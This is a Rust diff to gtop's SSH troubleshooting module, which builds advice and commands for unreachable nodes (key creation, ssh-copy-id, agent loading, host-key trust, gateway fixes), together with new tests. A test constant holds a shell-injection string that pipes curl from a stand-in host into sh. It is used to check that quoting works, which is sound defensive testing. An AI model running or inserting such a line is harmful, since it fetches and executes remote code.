@@ -46,7 +46,11 @@ const OLD_ALGORITHMS: [&str; 17] = [
 /// Returns what to do about a node that is not connected.
 pub fn for_fault(fault: &Fault, known: &Known) -> Advice {
     match fault.cause.as_deref() {
-        Some(cause) => of_cause(cause, known),
+        Some(cause) => {
+            let mut known = known.clone();
+            known.facts = fault.host.clone().or(known.facts);
+            of_cause(cause, &known)
+        }
         None => of_kind(fault.kind, &known.quoted_node(), &known.destination),
     }
 }
@@ -295,12 +299,7 @@ impl Known {
 
     /// Returns the `ssh-copy-id` command.
     fn copy_id(&self) -> String {
-        // The defaults are several files, and which of them exist is not known here.
-        let file = if self.origin("IdentityFile").is_some() {
-            format!("-i {} ", shell_quoted(self.value("IdentityFile")))
-        } else {
-            String::new()
-        };
+        let file = self.key_file().map(|file| format!("-i {file} ")).unwrap_or_default();
         format!("ssh-copy-id {file}{}", self.destination)
     }
 
@@ -315,12 +314,16 @@ impl Known {
 
     /// Returns how to create a key and install it, by password login or by the administrator.
     fn new_key(&self, user: &str, offers: &[String]) -> Step {
-        let keygen = "ssh-keygen -t ed25519";
+        let file = self.key_file();
+        let option = file.iter().map(|file| format!(" -f {file}"));
+        let keygen =
+            std::iter::once("ssh-keygen -t ed25519".to_owned()).chain(option).collect::<String>();
         if offers_login_without_key(offers) {
             let command = format!("{keygen} && {}", self.copy_id());
             return Step::run("create a key and install it on the node", command);
         }
-        let add = self.add_key("~/.ssh/id_ed25519.pub", user);
+        let file = file.unwrap_or("~/.ssh/id_ed25519".into());
+        let add = self.add_key(&format!("{file}.pub"), user);
         Step::run(format!("{add}, after creating it with"), keygen)
     }
 
@@ -353,7 +356,7 @@ impl Known {
                 "runuser -u {user} -- chmod go-w ~{user} ~{user}/.ssh ~{user}/.ssh/authorized_keys"
             ))
         });
-        let log_in = offers_login_without_key(offers).then(|| log_in(&self.quoted_node()).or());
+        let log_in = offers_login_without_key(offers).then(|| self.log_in_once().or());
         let by_log = [
             ("not in PubkeyAcceptedAlgorithms", accept_algorithm),
             ("bad ownership or modes", fix_modes),
@@ -431,15 +434,13 @@ impl Known {
                 if ours.is_empty() || self.origin(algorithm_option(kind)).is_some() {
                     return update;
                 }
+                if let Some(line) = self.old_algorithm(kind, theirs) {
+                    return Advice::from(line).then([self.use_ssh_program().and()]);
+                }
                 Advice::from(self.use_ssh_program()).then(update.steps.into_iter().map(Step::or))
             }
             SshFault::HostKeyUnknown { .. } => self.trust().into(),
-            SshFault::HostKeyNotKept { .. } => {
-                Advice::from(log_in(&node)).then([
-                    Step::words(self.correct_option("UserKnownHostsFile")).or(),
-                    self.trust().and(),
-                ])
-            }
+            SshFault::HostKeyNotKept { .. } => self.of_key_kept_nowhere(),
             SshFault::HostCertificateRefused { .. } => Step::run(
                 "have the certificate renewed, or compare the fingerprint, then",
                 format!("gtop trust {node}"),
@@ -449,7 +450,7 @@ impl Known {
             SshFault::HostKeyRevoked { at, .. } => self.of_revoked_key(Some(at)),
             SshFault::AuthenticationRefused { user, offers, .. } if fault.had_no_key() => {
                 let log_in =
-                    offers_login_without_key(offers).then(|| log_in(&node).or());
+                    offers_login_without_key(offers).then(|| self.log_in_once().or());
                 Advice::from(self.new_key(user, offers)).then(log_in)
             }
             SshFault::AuthenticationRefused { user, offers, tried }
@@ -485,7 +486,8 @@ impl Known {
             }
             SshFault::KeyEncrypted { file } => {
                 let file = shell_quoted_path(file);
-                let agent = if self.has_agent == Some(false) { "eval $(ssh-agent) && " } else { "" };
+                let agent =
+                    if self.has(|facts| facts.has_agent) { "" } else { "eval $(ssh-agent) && " };
                 Step::run(
                     "start gtop from a terminal, or load the key",
                     format!("{agent}ssh-add {file}"),
@@ -524,13 +526,21 @@ impl Known {
                 .into()
             }
             SshFault::GatewayForwardingRefused { gateway, .. } => {
-                Advice::from(self.gateway(gateway).sshd_config("AllowTcpForwarding yes")).then([
+                let gateway = self.gateway(gateway);
+                let renew = gateway.renew_password().when("the password there has expired");
+                Advice::from(gateway.sshd_config("AllowTcpForwarding yes")).then([
                     Step::words(format!("add {address}:{port} to PermitOpen if it is set")).and(),
+                    renew,
                 ])
             }
             SshFault::ProxyCommandFailed { command, .. } => {
                 Advice::from(Step::run("run it by hand", command.as_str()))
                     .then([Step::words(self.correct_option("ProxyCommand")).or()])
+            }
+            SshFault::SshProgram { cause: SshProgramCause::HostKeyUnknown, .. }
+                if !self.has(|facts| facts.keeps_host_keys) =>
+            {
+                self.of_key_kept_nowhere()
             }
             SshFault::SshProgram { cause: SshProgramCause::HostKeyUnknown, .. } => {
                 self.accept_with_ssh().into()
@@ -563,7 +573,9 @@ impl Known {
     /// Returns what is known of a gateway: what `ProxyJump` names.
     fn gateway(&self, gateway: &str) -> Self {
         let mut known = Self::of_destination(gateway);
-        (known.is_on_screen, known.has_agent) = (self.is_on_screen, self.has_agent);
+        known.is_on_screen = self.is_on_screen;
+        known.watched.clone_from(&self.watched);
+        known.facts.clone_from(&self.facts);
         known
     }
 
@@ -577,7 +589,14 @@ impl Known {
 
     fn accept_with_ssh(&self) -> Step {
         let words = "compare the fingerprint with the administrator's, and answer yes to";
-        Step::run(words, format!("ssh {} true", self.destination))
+        let ask = "-o StrictHostKeyChecking=ask";
+        Step::run(words, format!("ssh {ask} {} true", self.destination))
+    }
+
+    /// Returns what to do about a host key that is unknown and would be forgotten again.
+    fn of_key_kept_nowhere(&self) -> Advice {
+        let correct = Step::words(self.correct_option("UserKnownHostsFile"));
+        Advice::from(self.log_in_once()).then([correct.or(), self.trust().and()])
     }
 
     fn of_changed_key(&self, change: &HostKeyChange) -> Advice {
@@ -604,19 +623,22 @@ impl Known {
             ))
             .into();
         }
-        let old = OLD_ALGORITHMS.iter().find(|old| theirs.iter().any(|name| name == *old));
         let update = Step::words(format!(
             "add an algorithm that gtop supports to {option} in the node's sshd_config"
         ));
-        match old {
-            Some(old) => Advice::from(self.ssh_config("", &[&format!("{option} +{old}")]))
-                .then([update.or()]),
+        match self.old_algorithm(kind, theirs) {
+            Some(line) => Advice::from(line).then([update.or()]),
             None => update.into(),
         }
     }
 
+    /// Returns how to allow the best of the node's algorithms that ssh has and does not offer by itself.
+    fn old_algorithm(&self, kind: &str, theirs: &[String]) -> Option<Step> {
+        let old = OLD_ALGORITHMS.iter().find(|old| theirs.iter().any(|name| name == *old))?;
+        Some(self.ssh_config("", &[&format!("{} +{old}", algorithm_option(kind))]))
+    }
+
     fn of_prompt(&self, why: UnansweredReason) -> Advice {
-        let node = self.quoted_node();
         match why {
             UnansweredReason::ChangedHostKey => {
                 "check that key, then correct known_hosts: no answer is sent to a host whose key has changed".into()
@@ -627,19 +649,34 @@ impl Known {
             UnansweredReason::PromptsClosed | UnansweredReason::Skipped | UnansweredReason::HungUp
                 if self.is_on_screen =>
             {
-                Advice::words("press R to answer it").then([log_in(&node).or()])
+                Advice::words("press R to answer it").then([self.log_in_once().or()])
             }
             UnansweredReason::NoTerminal
             | UnansweredReason::MasterOpen
             | UnansweredReason::PromptsClosed
             | UnansweredReason::Skipped
-            | UnansweredReason::HungUp => Advice::from(log_in(&node))
+            | UnansweredReason::HungUp => Advice::from(self.log_in_once())
                 .then([Step::words("start gtop from a terminal and answer there, or log in with a key").or()]),
         }
     }
 
+    /// Returns how to log in once, so that gtop shares the connection.
+    fn log_in_once(&self) -> Step {
+        let node = self.quoted_node();
+        if self.has(|facts| facts.shares_logins) {
+            return if self.is_on_screen { log_in_here(&node) } else { log_in(&node) };
+        }
+        let auto = "--transport auto";
+        let command = format!("gtop login {auto} {node} && gtop {auto} {}", self.watched);
+        Step::run("log in once, and let gtop use the ssh program", command)
+    }
+
     /// Returns how to log in once: by gtop, or with a master connection of ssh.
     fn log_in(&self) -> Advice {
+        let login = Advice::from(self.log_in_once());
+        if !self.has(|facts| facts.shares_logins) {
+            return login;
+        }
         let destination = &self.destination;
         let master = if self.value("ControlPath").is_empty() {
             let then = format!(", then run ssh -fNM {destination}");
@@ -647,14 +684,13 @@ impl Known {
         } else {
             Step::run("open a master connection", format!("ssh -fNM {destination}"))
         };
-        let log_in = if self.is_on_screen { log_in_here } else { log_in };
-        Advice::from(log_in(&self.quoted_node())).then([master.or()])
+        login.then([master.or()])
     }
 
     fn of_account(&self, user: &str, says: &str) -> Advice {
         let lower = says.to_lowercase();
         if PASSWORD_EXPIRED.iter().any(|text| lower.contains(text)) {
-            return self.renew_password();
+            return self.renew_password().into();
         }
         if lower.contains(ACCOUNT_EXPIRED) {
             return match self.user(user) {
@@ -667,9 +703,9 @@ impl Known {
             .then([nologin.when("it comes from a nologin file that is out of date")])
     }
 
-    fn renew_password(&self) -> Advice {
+    fn renew_password(&self) -> Step {
         let command = format!("ssh -t {}", self.destination);
-        Step::run("log in and set a new password", command).into()
+        Step::run("log in and set a new password", command)
     }
 
     fn for_timeout(&self, phase: ConnectPhase) -> Step {
@@ -734,7 +770,7 @@ impl Known {
                 || "ask the administrator for a login shell on the node".into(),
                 Advice::from,
             ),
-            LoaderCause::PasswordExpired => self.renew_password(),
+            LoaderCause::PasswordExpired => self.renew_password().into(),
             LoaderCause::Ended => Advice::words(
                 "the login shell must run /bin/sh; look for exit or exec in ~/.bashrc and for a forced command",
             )
@@ -754,7 +790,7 @@ impl Known {
     }
 
     fn use_ssh_program(&self) -> Step {
-        Step::run("use the ssh program", format!("gtop --transport ssh {}", self.quoted_node()))
+        Step::run("use the ssh program", format!("gtop --transport ssh {}", self.watched))
     }
 
     fn set_shell(&self, user: &str) -> Option<Step> {
@@ -767,6 +803,7 @@ mod tests {
     use std::path::Path;
 
     use super::*;
+    use crate::fault::HostFacts;
 
     /// A shell injection, if the text were pasted.
     const HOSTILE: &str = "x; curl evil|sh #";
@@ -1003,6 +1040,75 @@ mod tests {
             let first = plain().of_ssh(&fault).first();
             assert!(first.contains(command), "{command} in {first}");
         }
+    }
+
+    #[test]
+    fn what_the_configuration_says_of_the_host_is_in_the_commands() {
+        let mut known = plain();
+        let facts = HostFacts {
+            host_name: "10.0.0.1".to_owned(),
+            port: 2222,
+            user: "eve".to_owned(),
+            key_file: Some("/k/my key".to_owned()),
+            ..HostFacts::default()
+        };
+        known.facts = Some(facts.into());
+        let x = || "x".to_owned();
+        let refused = |tried: &str| SshFault::AuthenticationRefused {
+            user: x(),
+            offers: vec!["publickey".to_owned(), "password".to_owned()],
+            tried: vec![tried.to_owned()],
+        };
+        let keygen = "ssh-keygen -t ed25519 -f '/k/my key' && ssh-copy-id -i '/k/my key' gpu11\n";
+        let shared = "gtop login --transport auto gpu11 && gtop --transport auto gpu11";
+        let unknown = SshFault::SshProgram { cause: SshProgramCause::HostKeyUnknown, message: x() };
+        for (fault, expected) in [
+            (
+                refused("/k/my key"),
+                "install your key on the node: ssh-copy-id -i '/k/my key' gpu11\n",
+            ),
+            (refused("no key to offer"), keygen),
+            (refused("no key to offer"), shared),
+            (SshFault::PasswordOnly { user: x() }, shared),
+            (SshFault::KeyEncrypted { file: "/k/id".into() }, "eval $(ssh-agent) && ssh-add /k/id"),
+            (unknown, shared),
+            (
+                SshFault::GatewayCannotReach { gateway: "bastion".to_owned(), why: x() },
+                "ssh bastion nc -zv 10.0.0.1 2222",
+            ),
+        ] {
+            let text = text(&known, &fault);
+            assert!(text.contains(expected), "{expected} in {text}");
+        }
+    }
+
+    #[test]
+    fn what_helps_at_a_gateway_is_done_for_the_node_behind_it() {
+        let known = known("ada@gpu11:2222", Some("ada"), Some(2222), None);
+        let names = |names: &[&str]| names.iter().map(|&name| name.to_owned()).collect();
+        let fault = |ours: &[&str], theirs: &[&str]| SshFault::NoCommonAlgorithm {
+            kind: "cipher",
+            ours: names(ours),
+            theirs: names(theirs),
+        };
+        let needs = SshFault::NeedsSshProgram { options: "KnownHostsCommand".to_owned() };
+        for fault in [needs, fault(&["a"], &["b"]), fault(&["a"], &["3des-cbc"])] {
+            let text = text(&known, &fault.at_gateway("bastion"));
+            assert!(
+                text.contains("use the ssh program: gtop --transport ssh ada@gpu11:2222"),
+                "{text}"
+            );
+        }
+        // An algorithm that the ssh program does not offer by itself needs both.
+        let both = text(&known, &fault(&["a"], &["3des-cbc"]).at_gateway("bastion"));
+        assert!(both.contains("Host bastion\n      Ciphers +3des-cbc"), "{both}");
+        assert!(both.contains("\nand use the ssh program: "), "{both}");
+        let refuses = SshFault::GatewayForwardingRefused {
+            gateway: "eve@bastion:2200".to_owned(),
+            why: String::new(),
+        };
+        let expired = "if the password there has expired, log in and set a new password: ssh -t -p 2200 eve@bastion";
+        assert!(text(&known, &refuses).contains(expired));
     }
 
     #[test]
